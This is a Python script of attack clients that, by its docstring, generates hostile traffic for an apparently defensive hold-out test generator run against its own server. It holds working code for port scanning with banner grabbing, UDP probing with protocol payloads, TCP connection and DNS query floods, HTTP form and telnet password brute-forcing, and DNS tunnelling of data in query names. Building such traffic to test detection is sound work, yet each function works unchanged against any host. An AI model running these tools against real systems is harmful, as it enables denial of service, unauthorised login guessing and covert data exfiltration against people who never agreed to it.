#!/usr/bin/env python3
"""Attack clients for the independent hold-out generator (holdout.sh).

Written from general knowledge of the attacks, run only inside the
generator's namespaces against its own server. Every subcommand stops by a
wall-clock limit given on the command line.

  slowconnect TARGET SECONDS          TCP connect scan of ~40 well-known ports,
                                      1-3 s random gap between probes
  udpprobe TARGET NPORTS RATE SECONDS UDP probes carrying protocol-like payloads
  connflood TARGET PORT CONC SECONDS  many parallel short TCP connects (no request)
  dnsflood TARGET RATE SECONDS        DNS query flood, random names
  formbrute TARGET PORT USER WORDS THREADS SECONDS   HTTP POST form login guessing
  telnetbrute TARGET PORT USER WORDS THREADS SECONDS telnet-like login guessing
  dnstunnel TARGET DOMAIN NBYTES RATE SECONDS        data in DNS query labels
"""
import asyncio
import base64
import os
import random
import socket
import struct
import sys
import threading
import time
import http.client
import urllib.parse

WELL_KNOWN = [21, 22, 23, 25, 53, 80, 81, 88, 110, 111, 135, 139, 143, 389, 443, 445,
              465, 514, 587, 631, 636, 873, 993, 995, 1080, 1433, 1521, 2049, 2375, 3306,
              3389, 5432, 5900, 6379, 8000, 8080, 8081, 8443, 9200, 27017]


def slowconnect(target, secs):
    end = time.time() + secs
    ports = WELL_KNOWN[:]
    random.shuffle(ports)
    for p in ports:
        if time.time() > end:
            break
        s = socket.socket()
        s.settimeout(1.5)
        try:
            s.connect((target, p))
            try:
                s.recv(256)  # grab a banner if one comes
            except OSError:
                pass
        except OSError:
            pass
        finally:
            s.close()
        time.sleep(random.uniform(1.0, 3.0))


def dns_query(name, qtype=1, qid=None):
    qid = random.getrandbits(16) if qid is None else qid
    q = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".") if l) + b"\x00"
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + q + struct.pack("!HH", qtype, 1)


def udp_payloads():
    ntp = b"\xe3" + b"\x00" * 47
    snmp = bytes.fromhex("302902010104067075626c6963a01c0204") + os.urandom(4) + \
        bytes.fromhex("020100020100300e300c06082b060102010101000500")
    ssdp = b"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n"
    nbns = os.urandom(2) + bytes.fromhex("00100001000000000000") + b"\x20" + b"CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" + b"\x00\x00\x21\x00\x01"
    sip = b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/UDP nm;branch=foo\r\nFrom: <sip:nm@nm>;tag=root\r\nTo: <sip:nm2@nm2>\r\nCall-ID: 50000\r\nCSeq: 42 OPTIONS\r\nMax-Forwards: 70\r\nContent-Length: 0\r\n\r\n"
    memc = b"\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n"
    tftp = b"\x00\x01pxelinux.0\x00octet\x00"
    ike = os.urandom(8) + b"\x00" * 8 + b"\x01\x10\x02\x00" + b"\x00" * 4 + b"\x00\x00\x00\x1c"
    return [dns_query("version.bind", 16), ntp, snmp, ssdp, nbns, sip, memc, tftp, ike, b"\r\n\r\n", b"\x00" * 8]


def udpprobe(target, nports, rate, secs):
    end = time.time() + secs
    known = [53, 67, 69, 111, 123, 137, 161, 162, 500, 514, 520, 1194, 1434, 1900, 4500, 5060, 5353, 11211]
    extra = random.sample(range(1, 20000), nports)
    ports = known + [p for p in extra if p not in known]
    ports = ports[:nports]
    random.shuffle(ports)
    pl = udp_payloads()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    for p in ports:
        if time.time() > end:
            break
        try:
            s.sendto(random.choice(pl), (target, p))
        except OSError:
            pass
        try:
            while True:
                s.recvfrom(4096)
        except OSError:
            pass
        time.sleep(random.expovariate(rate))
    time.sleep(1)


async def _connflood(target, port, conc, secs):
    end = time.time() + secs

    async def worker():
        while time.time() < end:
            try:
                r, w = await asyncio.wait_for(asyncio.open_connection(target, port), 2)
                await asyncio.sleep(random.uniform(0.0, 0.3))
                w.close()
            except Exception:
                await asyncio.sleep(0.05)

    await asyncio.gather(*(worker() for _ in range(conc)))


def dnsflood(target, rate, secs):
    end = time.time() + secs
    socks = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(4)]
    for s in socks:
        s.setblocking(False)
    sent = 0
    t0 = time.time()
    while time.time() < end:
        s = socks[sent % len(socks)]
        name = "%s.%s" % ("".join(random.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(random.randint(6, 14))),
                          random.choice(("example.com", "victim.lan", "corp.example")))
        try:
            s.sendto(dns_query(name, random.choice((1, 1, 1, 28, 255))), (target, 53))
        except OSError:
            pass
        sent += 1
        for s2 in socks:
            try:
                while True:
                    s2.recvfrom(4096)
            except OSError:
                pass
        ahead = sent / rate - (time.time() - t0)
        if ahead > 0:
            time.sleep(ahead)
        if sent % 2000 == 0:  # a fresh socket now and then (new source port)
            i = random.randrange(len(socks))
            socks[i].close()
            socks[i] = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            socks[i].setblocking(False)


def _words(path):
    with open(path) as f:
        return [l.strip() for l in f if l.strip()]


def formbrute(target, port, user, words, threads, secs):
    end = time.time() + secs
    lock = threading.Lock()
    it = iter(_words(words))
    found = threading.Event()

    def worker():
        while time.time() < end and not found.is_set():
            with lock:
                pw = next(it, None)
            if pw is None:
                return
            try:
                c = http.client.HTTPConnection(target, port, timeout=5)
                c.request("GET", "/login", headers={"User-Agent": "Mozilla/5.0"})
                c.getresponse().read()
                body = urllib.parse.urlencode({"username": user, "password": pw})
                c.request("POST", "/login", body=body, headers={
                    "Content-Type": "application/x-www-form-urlencoded", "User-Agent": "Mozilla/5.0"})
                r = c.getresponse()
                r.read()
                if r.status == 302:
                    found.set()
                c.close()
            except Exception:
                time.sleep(0.2)

    ts = [threading.Thread(target=worker) for _ in range(threads)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()


def telnetbrute(target, port, user, words, threads, secs):
    end = time.time() + secs
    lock = threading.Lock()
    it = iter(_words(words))

    def read_until(s, token, limit=5.0):
        buf = b""
        t = time.time() + limit
        while token not in buf and time.time() < t:
            try:
                d = s.recv(1024)
            except socket.timeout:
                continue
            if not d:
                break
            buf += d
        return buf

    def worker():
        while time.time() < end:
            try:
                s = socket.create_connection((target, port), timeout=5)
                s.settimeout(1.0)
                for _ in range(3):
                    with lock:
                        pw = next(it, None)
                    if pw is None or time.time() > end:
                        break
                    read_until(s, b"login: ")
                    s.sendall(user.encode() + b"\r\n")
                    read_until(s, b"Password: ")
                    s.sendall(pw.encode() + b"\r\n")
                    out = read_until(s, b"incorrect", 4.0)
                    if b"$ " in out:
                        s.sendall(b"exit\r\n")
                        return
                s.close()
                if pw is None:
                    return
            except OSError:
                time.sleep(0.3)

    ts = [threading.Thread(target=worker) for _ in range(threads)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()


def dnstunnel(target, domain, nbytes, rate, secs):
    end = time.time() + secs
    data = os.urandom(nbytes)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.5)
    off = 0
    seq = 0
    sid = "%04x" % random.getrandbits(16)
    while off < len(data) and time.time() < end:
        chunk = data[off:off + 110]
        enc = base64.b32encode(chunk).decode().rstrip("=").lower()
        labels = [enc[i:i + 60] for i in range(0, len(enc), 60)]
        name = ".".join(labels + ["%s%05d" % (sid, seq), domain])
        try:
            s.sendto(dns_query(name, random.choice((16, 16, 1))), (target, 53))
            s.recvfrom(4096)
        except OSError:
            pass
        off += len(chunk)
        seq += 1
        time.sleep(random.expovariate(rate))


if __name__ == "__main__":
    cmd, a = sys.argv[1], sys.argv[2:]
    if cmd == "slowconnect":
        slowconnect(a[0], float(a[1]))
    elif cmd == "udpprobe":
        udpprobe(a[0], int(a[1]), float(a[2]), float(a[3]))
    elif cmd == "connflood":
        asyncio.run(_connflood(a[0], int(a[1]), int(a[2]), float(a[3])))
    elif cmd == "dnsflood":
        dnsflood(a[0], float(a[1]), float(a[2]))
    elif cmd == "formbrute":
        formbrute(a[0], int(a[1]), a[2], a[3], int(a[4]), float(a[5]))
    elif cmd == "telnetbrute":
        telnetbrute(a[0], int(a[1]), a[2], a[3], int(a[4]), float(a[5]))
    elif cmd == "dnstunnel":
        dnstunnel(a[0], a[1], int(a[2]), float(a[3]), float(a[4]))
    else:
        sys.exit("unknown subcommand " + cmd)
